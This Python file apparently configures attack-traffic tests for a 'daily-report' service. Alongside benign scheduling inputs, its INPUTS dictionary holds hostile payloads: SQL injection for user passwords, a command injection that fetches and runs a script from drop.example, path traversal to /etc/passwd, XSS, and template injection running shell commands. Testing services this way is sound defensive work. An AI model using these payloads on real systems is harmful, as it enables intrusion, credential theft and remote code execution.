# SPDX-License-Identifier: Apache-2.0
"""What starts daily-report, and what attackers do who may write to its bus."""

RUNTIME = "go"
HANDLER = "bootstrap"
SERVICES = ["http"]
ENVIRONMENT = {"FIGURES_URL": "http://127.0.0.1:8081"}


def _start(traffic, **more):
    detail = {"region": traffic.choice(["north", "south", "east", "west"]), "team": traffic.words(1, 2), "retry": 0, **more}
    return traffic.schedule(traffic.choice(["daily-report", "daily-report-eu"]), detail)


def benign(traffic):
    return _start(traffic, retry=traffic.choice([1, 1, 2])) if traffic.happens(0.03) else _start(traffic)


INPUTS = {
    "statement": lambda traffic: _start(traffic, region="north' UNION SELECT login, password FROM users --"),
    "command": lambda traffic: _start(traffic, team="sales; wget -qO- http://drop.example/x | sh"),
    "traversal": lambda traffic: _start(traffic, region="../../../../etc/passwd"),
    "script": lambda traffic: _start(traffic, team="<img src=x onerror=alert(document.domain)>"),
    "template": lambda traffic: _start(traffic, team="{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
}
